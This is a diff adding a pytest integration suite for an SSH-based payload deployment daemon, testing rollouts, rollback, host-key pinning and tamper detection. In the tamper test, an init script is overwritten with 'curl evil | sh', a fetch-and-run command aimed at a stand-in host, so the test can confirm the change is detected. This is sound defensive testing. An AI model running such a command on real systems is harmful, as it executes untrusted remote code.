@@ -1,0 +1,488 @@
+"""Payloads on real hosts: each an sshd in a mount namespace of its own, with a service that is the
+very file that was deployed. Whatever goes wrong leaves, or gives back, what was there."""
+
+from __future__ import annotations
+
+import base64
+import getpass
+import hashlib
+import http.client
+import json
+import os
+import signal
+import sys
+import time
+from collections.abc import Callable, Iterator, Mapping, Sequence
+from concurrent.futures import Future, ThreadPoolExecutor
+from contextlib import ExitStack, contextmanager, suppress
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+import tests.sshd
+from swarmd.cli.client import Daemon as Client
+from swarmd.ops.payload_holds import HOLD_S
+from tests.daemon import Daemon, Response, running_daemon
+from tests.parts import need
+from tests.sshd import Sshd, alive, running_sshd
+from tests.swarms import running_swarm
+
+KEY = "a-key-for-tests"
+ADMIN = "/admin/api"
+HEARTBEAT_S = 3.0
+DEAD = b"#!/bin/sh\nexit 1\n"
+"""A program that gives no sign of life."""
+SERVICE = """#!/bin/sh
+[ "$1" = swarm-drone ] && [ "$2" = restart ] || exit 64
+cd {root} || exit 1
+[ ! -f pid ] || kill "$(cat pid)" 2>/dev/null
+setsid ./swarm-drone </dev/null >/dev/null 2>&1 &
+echo $! >pid
+"""
+PROGRAM = """#!{python}
+# {version}
+import http.client, json, pathlib, time
+me = json.loads((pathlib.Path(__file__).parent / "me.json").read_text())
+while True:
+    try:
+        link = http.client.HTTPConnection(me["host"], me["port"], timeout=5)
+        link.request("POST", "/api/v1/register", json.dumps(me["says"]))
+        link.getresponse().read()
+    except OSError:
+        pass
+    time.sleep(0.2)
+"""
+
+
+@dataclass
+class Host:
+    """A host: its sshd sees a directory of its own where all of them have theirs."""
+
+    name: str
+    sshd: Sshd
+    root: Path
+
+    @property
+    def inside(self) -> Path:
+        """That directory, from here."""
+        assert self.sshd.process is not None
+        return Path(f"/proc/{self.sshd.process.pid}/root{self.root}")
+
+    def file(self, name: str = "swarm-drone") -> bytes:
+        return (self.inside / name).read_bytes()
+
+    def names(self) -> set[str]:
+        return {path.name for path in self.inside.iterdir()}
+
+    def pid(self) -> int | None:
+        with suppress(OSError, ValueError):
+            return int((self.inside / "pid").read_text())
+        return None
+
+    def write(self, name: str, data: bytes | str, mode: int = 0o644) -> None:
+        file = self.inside / name
+        file.parent.mkdir(exist_ok=True)
+        file.write_bytes(data.encode() if isinstance(data, str) else data)
+        file.chmod(mode)
+
+
+@dataclass
+class Operator:
+    daemon: Daemon
+    key: str
+
+    @property
+    def headers(self) -> dict[str, str]:
+        return {"X-Admin-Key": self.key}
+
+    def ask(self, method: str, path: str, body: object = None, **more: Any) -> Response:
+        where = f"{ADMIN}{path}"
+        return self.daemon.request(
+            method, where, body, surface="buildadmin", headers=self.headers, timeout_s=60, **more
+        )
+
+    def good(self, method: str, path: str, body: object = None) -> Any:
+        answer = self.ask(method, path, body)
+        assert answer.status in (200, 201), answer.body
+        return answer.json
+
+    def register(self, version: str, content: bytes, sort: str = "drone_binary") -> str:
+        text = base64.b64encode(content).decode()
+        body = {"type": sort, "version": version, "content": text}
+        self.good("POST", "/payloads", body)
+        return version
+
+    def deploy(self, version: str, drone: str, sort: str = "drone_binary") -> Response:
+        return self.ask("POST", f"/payloads/{sort}/{version}/deploy", {"drone": drone})
+
+    def roll(self, version: str, drones: Sequence[str] | None, **more: object) -> Any:
+        path = f"/payloads/drone_binary/{version}/rolling-deploy"
+        return self.good("POST", path, {"drones": drones, **more})
+
+    def place(self, drone: str, sort: str = "drone_binary") -> tuple[str | None, str]:
+        place = self.good("GET", "/payloads/status")["drones"][drone][sort]
+        return place["version"], place["status"]
+
+    def log(self, drone: str, sort: str = "drone_binary") -> list[tuple[str, str]]:
+        """Steps and how they ended, the oldest first."""
+        rows = self.good("GET", f"/payloads/{sort}/deploy-log?drone={drone}")["history"]
+        return [(row["action"], row["status"]) for row in reversed(rows)]
+
+    def until(self, what: Callable[[], bool], timeout_s: float = 20) -> None:
+        deadline = time.monotonic() + timeout_s
+        while not what():
+            assert time.monotonic() < deadline
+            time.sleep(0.05)
+
+
+@contextmanager
+def running_host(
+    folder: Path, root: Path, name: str, mount: str, patch: pytest.MonkeyPatch
+) -> Iterator[Host]:
+    wrapper = folder / f"sshd-{name}"
+    wrapper.write_text(
+        "#!/bin/sh\nexec unshare --mount --propagation private"
+        f' sh -c \'{mount}; exec /usr/sbin/sshd "$@"\' sshd "$@"\n'
+    )
+    wrapper.chmod(0o755)
+    patch.setattr(tests.sshd, "SSHD", str(wrapper))
+    path = f"{root}/bin:/usr/sbin:/usr/bin:/sbin:/bin"
+    with running_sshd(folder / f"ssh-{name}", env={"PATH": path}) as sshd:
+        host = Host(name, sshd, root)
+        try:
+            yield host
+        finally:
+            pid = host.pid() if sshd.process is not None else None
+            if pid is not None and alive(pid):
+                os.kill(pid, signal.SIGKILL)
+
+
+@dataclass
+class Estate:
+    operator: Operator
+    hosts: Mapping[str, Host]
+
+    def says(self, name: str) -> dict[str, Any]:
+        host = self.hosts[name]
+        return {"id": f"id-{name}", "name": name, "ip": host.sshd.host}
+
+    def program(self, version: str) -> bytes:
+        return PROGRAM.format(python=sys.executable, version=version).encode()
+
+
+@contextmanager
+def running_hosts(
+    folder: Path, names: Sequence[str], patch: pytest.MonkeyPatch,
+    mount: str = "mount --bind {own} {root}",
+) -> Iterator[dict[str, Host]]:  # fmt: skip
+    """Each takes the same key: that of the first."""
+    root = folder / "root"
+    root.mkdir()
+    with ExitStack() as stack:
+        hosts: dict[str, Host] = {}
+        for name in names:
+            (own := folder / f"own-{name}").mkdir()
+            how = mount.format(own=own, root=root)
+            hosts[name] = stack.enter_context(running_host(folder, root, name, how, patch))
+        key = client_key(hosts).with_suffix(".pub").read_bytes()
+        for host in hosts.values():
+            (host.sshd.folder / "client.pub").write_bytes(key)
+        yield hosts
+
+
+def client_key(hosts: Mapping[str, Host]) -> Path:
+    return next(iter(hosts.values())).sshd.folder / "client"
+
+
+def settings_of(folder: Path, hosts: Mapping[str, Host], pin_first: bool) -> dict[str, Any]:
+    """Of daemons that reach these hosts."""
+    root = folder / "root"
+    known = folder / "known_hosts"
+    known.write_text("".join(
+        f"[{host.sshd.host}]:{host.sshd.port} {host.sshd.host_key()}\n" for host in hosts.values()
+    ))  # fmt: skip
+    ssh: dict[str, object] = {"key_file": str(client_key(hosts)), "user": getpass.getuser()}
+    ssh |= {"pin_first": True} if pin_first else {"known_hosts": str(known)}
+    payloads = {
+        "binary": str(root / "swarm-drone"), "init_script": str(root / "init"),
+        "config": str(root / "config.json"), "portage_config": str(root / "binhost.conf"),
+        "heartbeat_s": HEARTBEAT_S,
+    }  # fmt: skip
+    elsewhere = {name: f"{host.sshd.host}:{host.sshd.port}" for name, host in hosts.items()}
+    return {
+        "jobs": {"executor": False}, "care": {"enabled": False}, "ssh": ssh,
+        "ssh__hosts": elsewhere, "payloads": payloads,
+    }  # fmt: skip
+
+
+def settle(operator: Operator, hosts: Mapping[str, Host]) -> Estate:
+    """The drones are known, and what runs on their hosts knows the daemon."""
+    operator.until(lambda: operator.ask("GET", "/payloads").status == 200)
+    estate = Estate(operator, hosts)
+    for name, host in hosts.items():
+        says = estate.says(name)
+        address, port = operator.daemon.address, operator.daemon.ports["buildswarm"]
+        host.write("me.json", json.dumps({"host": address, "port": port, "says": says}))
+        host.write("bin/rc-service", SERVICE.format(root=host.root), 0o755)
+        answer = operator.daemon.request("POST", "/api/v1/register", says, surface="buildswarm")
+        assert answer.status == 200, answer.body
+    return estate
+
+
+@contextmanager
+def running_estate(
+    folder: Path, names: Sequence[str], patch: pytest.MonkeyPatch, *,
+    mount: str = "mount --bind {own} {root}", pin_first: bool = False,
+) -> Iterator[Estate]:  # fmt: skip
+    with (
+        running_hosts(folder, names, patch, mount) as hosts,
+        running_daemon(
+            folder / "node", environment={"ADMIN_KEY": KEY},
+            **settings_of(folder, hosts, pin_first),
+        ) as daemon,
+    ):  # fmt: skip
+        yield settle(Operator(daemon, KEY), hosts)
+
+
+@pytest.fixture
+def estate(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Estate]:
+    need("sshd", "netns")
+    with running_estate(tmp_path, ("one", "two", "three"), monkeypatch) as estate:
+        yield estate
+
+
+@pytest.fixture
+def small(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Estate]:
+    """One host, whose disk holds a megabyte."""
+    need("sshd", "netns")
+    mount = "mount -t tmpfs -o size=1m none {root}"
+    with running_estate(tmp_path, ("one",), monkeypatch, mount=mount) as estate:
+        yield estate
+
+
+@pytest.fixture
+def pinning(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Estate]:
+    """One host of which nothing is known before."""
+    need("sshd", "netns")
+    with running_estate(tmp_path, ("one",), monkeypatch, pin_first=True) as estate:
+        yield estate
+
+
+def test_a_roll_goes_on_where_it_is_well_and_turns_back_where_it_is_not(estate: Estate) -> None:
+    operator, hosts = estate.operator, estate.hosts
+    first = operator.register("1", estate.program("1"))
+    said = operator.roll(first, ["one", "two", "three"])
+    assert (said["status"], said["success_count"]) == ("ok", 3), said
+    assert {host.file() for host in hosts.values()} == {estate.program("1")}
+    assert operator.log("one") == [(s, "success") for s in ("deploy", "restart", "health")]
+    # Two is on another file system than one, and is where its service does not come back.
+    second = operator.register("2", estate.program("2"))
+    hosts["two"].write("bin/rc-service", "#!/bin/sh\necho it is stuck >&2\nexit 3\n", 0o755)
+    said = operator.roll(second, ["one", "two", "three"])
+    assert (said["status"], said["success_count"], said["fail_count"]) == ("partial", 1, 1)
+    assert said["skipped"] == ["three"] and said["results"]["one"]["success"]
+    assert "it is stuck" in said["results"]["two"]["message"]
+    assert [hosts[name].file() == estate.program(v) for name, v in
+            (("one", "2"), ("two", "1"), ("three", "1"))] == [True] * 3  # fmt: skip
+    assert [operator.place(name) for name in ("one", "two", "three")] == [
+        ("2", "deployed"), ("1", "deployed"), ("1", "deployed"),
+    ]  # fmt: skip
+    assert ("rollback", "success") in operator.log("two")
+    # All that are outdated are the other two, once it is well again.
+    hosts["two"].write("bin/rc-service", SERVICE.format(root=hosts["two"].root), 0o755)
+    said = operator.roll(second, None)
+    assert said["status"] == "ok" and sorted(said["results"]) == ["three", "two"]
+    matrix = operator.good("GET", "/payloads/status")
+    assert matrix["outdated_count"] == 0 and all(
+        place["drone_binary"]["is_current"] for place in matrix["drones"].values()
+    )
+
+
+def test_a_program_that_gives_no_sign_of_life_is_rolled_back(estate: Estate) -> None:
+    operator, host = estate.operator, estate.hosts["one"]
+    operator.roll(operator.register("1", estate.program("1")), ["one", "two"])
+    dead = operator.register("dead", DEAD)
+    said = operator.roll(dead, ["one", "two"])
+    assert said["status"] == "partial" and said["skipped"] == ["two"]
+    assert "no sign of life within 3 s" in said["results"]["one"]["message"]
+    assert host.file() == estate.program("1") and operator.place("one") == ("1", "deployed")
+    assert host.names() >= {"swarm-drone"} and not [n for n in host.names() if n[0] == "."]
+    assert operator.log("one")[3:] == [
+        ("deploy", "success"), ("restart", "success"), ("health", "failed"),
+        ("rollback", "success"), ("restart", "success"), ("health", "success"),
+    ]  # fmt: skip
+    # Without that it stays where it is, and the roll goes on.
+    said = operator.roll(dead, ["one", "two"], rollback_on_fail=False)
+    assert (said["status"], said["fail_count"], said["skipped"]) == ("partial", 2, [])
+    assert host.file() == DEAD and operator.place("one") == ("dead", "deployed")
+
+
+def test_what_was_never_there_is_taken_away_again(estate: Estate) -> None:
+    said = estate.operator.roll(estate.operator.register("dead", DEAD), ["one"])
+    assert said["status"] == "partial"
+    assert "swarm-drone" not in estate.hosts["one"].names()
+    assert estate.operator.place("one") == (None, "failed")
+
+
+def test_two_rolls_of_a_type_are_not_at_once(estate: Estate) -> None:
+    operator = estate.operator
+    dead, config = operator.register("dead", DEAD), operator.register("1", b"{}", "config")
+    with ThreadPoolExecutor(1) as pool:
+        first: Future[Any] = pool.submit(operator.roll, dead, ["one"])
+        operator.until(
+            lambda: "drone_binary" in operator.good("GET", "/payloads/status")["drones"]["one"]
+        )
+        path = "/payloads/drone_binary/dead/rolling-deploy"
+        for answer in (operator.ask("POST", path, {}), operator.deploy(dead, "two")):
+            assert answer.status == 409 and "under way" in answer.json["error"], answer.body
+        assert operator.deploy(config, "one", "config").status == 200  # of another type
+        assert first.result(30)["status"] == "partial"
+    assert operator.deploy(dead, "two").status == 200
+
+
+def test_whoever_asked_may_go_and_the_roll_goes_on(estate: Estate) -> None:
+    operator = estate.operator
+    version = operator.register("1", estate.program("1"))
+    with pytest.raises(TimeoutError):
+        operator.daemon.request(
+            "POST", f"{ADMIN}/payloads/drone_binary/{version}/rolling-deploy",
+            {"drones": ["one", "two"]}, surface="buildadmin", headers=operator.headers,
+            timeout_s=0.3,
+        )  # fmt: skip
+    operator.until(lambda: ("health", "success") in operator.log("two"))
+    assert estate.hosts["two"].file() == estate.program("1")
+
+
+def test_a_file_that_was_tampered_with_is_found_out(estate: Estate) -> None:
+    operator, host = estate.operator, estate.hosts["one"]
+    version = operator.register("1", b"#!/bin/sh\n", "init_script")
+    assert operator.deploy(version, "one", "init_script").status == 200
+    assert (host.inside / "init").stat().st_mode & 0o777 == 0o755
+    host.write("init", b"#!/bin/sh\ncurl evil | sh\n")
+    said = operator.good("POST", "/payloads/init_script/verify", {"drone": "one"})
+    assert said["matches"] is False and operator.place("one", "init_script") == (None, "changed")
+    assert said["remote_hash"] == hashlib.sha256(host.file("init")).hexdigest()
+    assert operator.deploy(version, "one", "init_script").status == 200
+    assert operator.good("POST", "/payloads/init_script/verify", {"drone": "one"})["matches"]
+
+
+def test_a_full_disk_leaves_what_was_there(small: Estate) -> None:
+    operator, host = small.operator, small.hosts["one"]
+    assert operator.deploy(operator.register("1", b"{}", "config"), "one", "config").status == 200
+    before = host.names()
+    answer = operator.ask("PUT", "/payloads/config/big", os.urandom(3_000_000))
+    assert answer.status == 201, answer.body
+    answer = operator.deploy("big", "one", "config")
+    assert answer.status in (409, 503) and answer.json["error"].startswith("one: "), answer.body
+    assert host.names() == before and host.file("config.json") == b"{}"
+    assert operator.place("one", "config") == ("1", "failed")
+    assert operator.log("one", "config") == [("deploy", "success"), ("deploy", "failed")]
+
+
+def test_a_host_that_shows_another_key_gets_nothing(estate: Estate) -> None:
+    operator, host = estate.operator, estate.hosts["one"]
+    version = operator.register("1", b"{}", "config")
+    host.sshd.rebuild()
+    answer = operator.deploy(version, "one", "config")
+    assert answer.status == 409 and "host key" in answer.json["error"], answer.body
+    assert "config.json" not in host.names()
+    said = operator.good("POST", f"/payloads/config/{version}/rolling-deploy", {"drones": ["one"]})
+    assert said["status"] == "partial" and "host key" in said["results"]["one"]["message"]
+
+
+def test_the_first_key_is_kept_by_the_swarm_until_somebody_has_it_forgotten(
+    pinning: Estate,
+) -> None:
+    operator, host = pinning.operator, pinning.hosts["one"]
+    version = operator.register("1", b"{}", "config")
+    assert operator.deploy(version, "one", "config").status == 200
+    host.sshd.rebuild()
+    answer = operator.deploy(version, "one", "config")
+    assert answer.status == 409 and "host key" in answer.json["error"], answer.body
+    assert operator.good("DELETE", "/drones/one/host-key")["forgotten"] is True
+    assert operator.good("DELETE", "/drones/one/host-key")["forgotten"] is False
+    host.write("me.json", "{}")  # its directory is a new one, too
+    assert operator.deploy(version, "one", "config").status == 200
+
+
+def test_two_hundred_megabytes_arrive_whole(estate: Estate) -> None:
+    operator, host = estate.operator, estate.hosts["one"]
+    data = os.urandom(1_000_000) * 200
+    answer = operator.ask("PUT", "/payloads/drone_binary/big?notes=large", data)
+    assert answer.status == 201, answer.body
+    assert answer.json["version"]["hash"] == f"sha256:{hashlib.sha256(data).hexdigest()}"
+    assert operator.deploy("big", "one").status == 200
+    assert (host.inside / "swarm-drone").stat().st_size == len(data)
+    assert operator.good("POST", "/payloads/drone_binary/verify", {"drone": "one"})["matches"]
+
+
+def test_any_node_does_it_and_all_know(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """One node's deployment is in the others' way, and the key that one saw is what all believe.
+    The one that deploys is killed in the middle: nothing half done is left on the host."""
+    need("sshd", "netns")
+    with ExitStack() as stack:
+        hosts = stack.enter_context(running_hosts(tmp_path, ("one",), monkeypatch))
+        settings = settings_of(tmp_path, hosts, pin_first=True)
+        swarm = stack.enter_context(running_swarm(tmp_path / "swarm", 3, first=91, **settings))
+        operators = [
+            Operator(node.daemon, Client(node.data_dir).get("/api/v1/admin-key")["admin_key"])
+            for node in (swarm.leader(), *swarm.followers())
+        ]
+        estate = settle(operators[0], hosts)
+        host, (_, other, conductor) = estate.hosts["one"], operators
+        first = conductor.register("1", estate.program("1"))
+        assert conductor.deploy(first, "one").status == 200
+        assert other.place("one") == ("1", "deployed")
+        (row,) = other.good("GET", "/payloads/drone_binary/deploy-log")["history"]
+        (via,) = [node.name for node in swarm.nodes if node.daemon is conductor.daemon]
+        assert row["deployed_via"] == via
+        # It never saw the host, which is another one by now.
+        host.sshd.rebuild()
+        answer = other.deploy(first, "one")
+        assert answer.status == 409 and "host key" in answer.json["error"], answer.body
+        assert other.good("DELETE", "/drones/one/host-key")["forgotten"] is True
+        assert conductor.deploy(first, "one").status == 200
+        big = os.urandom(1_000_000) * 200
+        assert other.ask("PUT", "/payloads/drone_binary/big", big).status == 201
+        with ThreadPoolExecutor(1) as pool:
+            lost = pool.submit(conductor.deploy, "big", "one")
+            operators[0].until(lambda: any(name.endswith(".new") for name in host.names()))
+            answer = other.deploy(first, "one")
+            assert answer.status == 409 and "under way" in answer.json["error"], answer.body
+            conductor.daemon.kill()
+            with pytest.raises((OSError, http.client.HTTPException)):
+                lost.result(30)
+        assert host.file() == estate.program("1")
+        assert other.place("one") == ("1", "deploying")
+        said = other.good("POST", "/payloads/drone_binary/verify", {"drone": "one"})
+        assert said["matches"] is True and other.place("one") == ("1", "deployed")
+        # What it had sent is in the way until the next one comes.
+        assert [name for name in host.names() if name.endswith(".new")]
+        other.until(lambda: other.deploy(first, "one").status == 200, HOLD_S + 20)
+        assert not [name for name in host.names() if name.endswith(".new")]
+
+
+def test_a_hosts_log_is_its_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    need("sshd", "netns")
+    (logs := tmp_path / "logs").mkdir()
+    (logs / "messages").write_text("".join(
+        f"Feb 12 15:30:01 one swarm-drone[{n}]: \x1b[2J{'é' * (n % 200)}\n" for n in range(3000)
+    ))  # fmt: skip
+    # Where the machine keeps a journal, this host has none of it.
+    mount = (
+        f"mount --bind {{own}} {{root}}; mount --bind {logs} /var/log;"
+        " [ ! -d /run/log ] || mount -t tmpfs none /run/log"
+    )
+    with running_estate(tmp_path, ("one",), monkeypatch, mount=mount) as estate:
+        operator = estate.operator
+        lines = operator.good("GET", "/drones/one/syslog?lines=3")["lines"]
+        assert [line[:44] for line in lines] == [
+            f"Feb 12 15:30:01 one swarm-drone[{n}]: \ufffd[2Jéé"[:44] for n in (2997, 2998, 2999)
+        ]
+        assert len(operator.good("GET", "/drones/one/syslog")["lines"]) == 100
+        assert len(operator.good("GET", "/drones/one/syslog?lines=9999999")["lines"]) == 2000
+        (logs / "messages").unlink()
+        answer = operator.ask("GET", "/drones/one/syslog")
+        assert answer.status == 503 and "no log that this account may read" in answer.json["error"]
